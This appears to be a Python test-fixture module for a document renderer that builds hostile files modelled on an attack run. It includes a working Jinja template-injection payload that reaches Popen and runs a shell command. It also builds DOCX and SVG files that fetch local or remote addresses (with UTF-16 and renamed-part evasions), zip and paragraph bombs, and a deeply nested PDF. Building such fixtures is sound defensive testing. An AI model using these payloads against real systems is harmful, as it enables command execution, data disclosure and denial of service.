"""Hostile files as an attack run made them: a template that runs commands, DOCX that reach out, bombs, PDFs.

Each builder writes one file and returns its path; nothing here needs LibreOffice.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable
from pathlib import Path

from docx import Document

from docgen.render.templates import BUILTIN_TEMPLATES

# What an attack run put into a notice template: walk from a string to Popen and run a command.
TEMPLATE_PAYLOAD = (
    "{% for c in title.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
    "{{ c('touch PWNED', shell=True) }}{% endif %}{% endfor %}"
)


def rewritten(source: Path, target: Path, part: str, change: dict[str, str]) -> Path:
    """``source`` (a DOCX) with text replaced in one of its parts, written to ``target``."""
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == part:
                text = data.decode("utf-8")
                for old, new in change.items():
                    assert old in text, old
                    text = text.replace(old, new, 1)
                data = text.encode("utf-8")
            zout.writestr(item, data)
    return target


def payload_template(folder: Path, payload: str = TEMPLATE_PAYLOAD) -> Path:
    """The built-in notice template with ``payload`` in front of its title tag."""
    source = BUILTIN_TEMPLATES / "notice.docx"
    return rewritten(source, folder / "notice.docx", "word/document.xml", {"{{ title }}": payload + "{{ title }}"})


def payload_template_bytes(payload: str = TEMPLATE_PAYLOAD) -> bytes:
    """The payload template as bytes (for the hostile corpus, which writes files itself)."""
    out = io.BytesIO()
    source = BUILTIN_TEMPLATES / "notice.docx"
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "word/document.xml":
                data = data.replace(b"{{ title }}", (payload + "{{ title }}").encode("utf-8"), 1)
            zout.writestr(item, data)
    return out.getvalue()


IMAGE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/image"
TEMPLATE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
LINKED_PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:extent cx="914400" cy="914400"/><wp:docPr id="7" name="linked"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:nvPicPr><pic:cNvPr id="7" name="linked"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip r:link="rIdOut"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></a:xfrm>'
    '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
    "</wp:inline></w:drawing></w:r></w:p>"
)


def reaching_docx(target: Path, address: str, text: str = "外部链接测试") -> Path:
    """A DOCX that, converted, would fetch ``address``: a linked picture, INCLUDEPICTURE, INCLUDETEXT, a template.

    ``address`` is a base such as ``http://127.0.0.1:8765`` or ``file:///tmp/x``; each reach asks
    for a different name under it.
    """
    doc = Document()
    doc.add_paragraph(text)
    buffer = io.BytesIO()
    doc.save(buffer)
    fields = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE '
        f'"{address}/field.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        '<w:r><w:t>域的结果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{address}/text.docx&quot; "><w:r><w:t>引用的文字</w:t></w:r>'
        "</w:fldSimple></w:p>"
    )
    relations = (
        f'<Relationship Id="rIdOut" Type="{IMAGE_REL}" Target="{address}/linked.png" TargetMode="External"/>'
        "</Relationships>"
    )
    settings_relations = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rIdTpl" Type="{TEMPLATE_REL}" Target="{address}/normal.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    with zipfile.ZipFile(buffer) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            if not item.filename.endswith((".xml", ".rels")):
                zout.writestr(item, zin.read(item.filename))
                continue
            data = zin.read(item.filename).decode("utf-8")
            if item.filename == "word/_rels/document.xml.rels":
                data = data.replace("</Relationships>", relations)
            elif item.filename == "word/document.xml":
                data = data.replace("<w:sectPr", LINKED_PICTURE + fields + "<w:sectPr", 1)
            elif item.filename == "word/settings.xml":
                data = data.replace("<w:defaultTabStop", '<w:attachedTemplate r:id="rIdTpl"/><w:defaultTabStop', 1)
            zout.writestr(item, data)
        zout.writestr("word/_rels/settings.xml.rels", settings_relations)
    return target


def png(path: Path, width: int = 40, height: int = 40) -> Path:
    """A small red PNG (a "local secret" a linked picture could reach)."""
    raw = b"".join(b"\x00" + b"\xff\x00\x00" * width for _ in range(height))

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    path.write_bytes(
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b"")
    )
    return path


def paragraph_bomb(target: Path, paragraphs: int = 33_500_000) -> Path:
    """A small DOCX whose document.xml holds ``paragraphs`` empty paragraphs (an attack run's was 299 KB)."""
    _docx_with_part(target, "word/document.xml", _document_of(b"<w:p/>", paragraphs))
    return target


def zip_bomb(target: Path, megabytes: int = 400) -> Path:
    """A DOCX of about a megabyte that unpacks a part of ``megabytes`` zeros."""
    _docx_with_part(target, "word/media/image1.bin", iter([b"\x00" * (1 << 20)] * megabytes))
    return target


def _document_of(unit: bytes, count: int) -> list[bytes]:
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    )
    block = unit * 100_000
    return [head] + [block] * (count // 100_000) + [unit * (count % 100_000), b"</w:body></w:document>"]


def _docx_with_part(target: Path, name: str, chunks: Iterable[bytes]) -> None:
    """A minimal valid DOCX package plus one part written as a stream of ``chunks``."""
    doc = Document()
    doc.add_paragraph("正常的一段")
    buffer = io.BytesIO()
    doc.save(buffer)
    with zipfile.ZipFile(buffer) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zout:
        for item in zin.infolist():
            if item.filename != name:
                zout.writestr(item, zin.read(item.filename))
        with zout.open(name, "w", force_zip64=True) as part:
            for chunk in chunks:
                part.write(chunk)


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF of the given object bodies (numbered from 1, the catalog first) with a correct xref table."""
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for n, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def nested_arrays_pdf(target: Path, depth: int = 5000) -> Path:
    """A one-page PDF whose XMP metadata object is an array nested ``depth`` deep (pypdf reads it by recursion)."""
    nested = b"[" * depth + b"]" * depth
    target.write_bytes(
        raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R /Metadata 4 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
                nested,
            ]
        )
    )
    return target


def blank_pdf(target: Path, pages: int) -> Path:
    """A PDF of ``pages`` empty pages: no text layer, as a scanner leaves a blank sheet."""
    from pypdf import PdfWriter

    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(595, 842)
    with target.open("wb") as fh:
        writer.write(fh)
    return target


SVG_PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<wp:extent cx="1828800" cy="1828800"/><wp:docPr id="8" name="svg"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:nvPicPr><pic:cNvPr id="8" name="svg"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip r:embed="rIdSvg"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1828800" cy="1828800"/></a:xfrm>'
    '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>'
    "</wp:inline></w:drawing></w:r></w:p>"
)


SVG_TYPES = {"svg": "image/svg+xml", "png": "image/png"}  # the type the package declares for the part's name


def svg_reaching_docx(
    target: Path, image_uri: str, *, utf16: bool = False, part: str = "word/media/image1.svg"
) -> Path:
    """A DOCX whose picture is an SVG that draws the local or remote image ``image_uri`` (an attack run's).

    ``utf16`` writes the SVG in UTF-16 (past a byte search for ``href``); ``part`` may give the
    SVG a picture's name (``image1.png``) that hides what it is.
    """
    svg = (
        '<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" width="200" height="200" viewBox="0 0 200 200">'
        '<rect x="0" y="0" width="200" height="200" fill="#ffffff"/>'
        f'<image x="0" y="0" width="200" height="200" xlink:href="{image_uri}"/></svg>'
    )
    data = svg.replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16") if utf16 else svg.encode("utf-8")
    relation = f'<Relationship Id="rIdSvg" Type="{IMAGE_REL}" Target="{part.removeprefix("word/")}"/></Relationships>'
    extension = part.rsplit(".", 1)[-1]
    doc = Document()
    doc.add_paragraph("矢量图测试")
    buffer = io.BytesIO()
    doc.save(buffer)
    with zipfile.ZipFile(buffer) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            content = zin.read(item.filename)
            if item.filename == "word/_rels/document.xml.rels":
                content = content.replace(b"</Relationships>", relation.encode("utf-8"))
            elif item.filename == "word/document.xml":
                content = content.replace(b"<w:sectPr", SVG_PICTURE.encode("utf-8") + b"<w:sectPr", 1)
            elif item.filename == "[Content_Types].xml" and f'Extension="{extension}"'.encode() not in content:
                said = f'<Default Extension="{extension}" ContentType="{SVG_TYPES[extension]}"/></Types>'
                content = content.replace(b"</Types>", said.encode())
            zout.writestr(item, content)
        zout.writestr(part, data)
    return target


def renamed_main_part(source: Path, target: Path, name: str = "word/document.XML") -> Path:
    """``source`` with its main part under another name (the package's relationships follow it)."""
    with zipfile.ZipFile(source) as zin, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            content = zin.read(item.filename)
            if item.filename == "_rels/.rels":
                content = content.replace(b"word/document.xml", name.encode())
            elif item.filename == "[Content_Types].xml":
                content = content.replace(b"/word/document.xml", f"/{name}".encode())
            elif item.filename == "word/_rels/document.xml.rels":
                item = zipfile.ZipInfo(f"word/_rels/{name.rsplit('/', 1)[-1]}.rels", item.date_time)  # noqa: PLW2901
            elif item.filename == "word/document.xml":
                item = zipfile.ZipInfo(name, item.date_time)  # noqa: PLW2901
            zout.writestr(item, content)
    return target
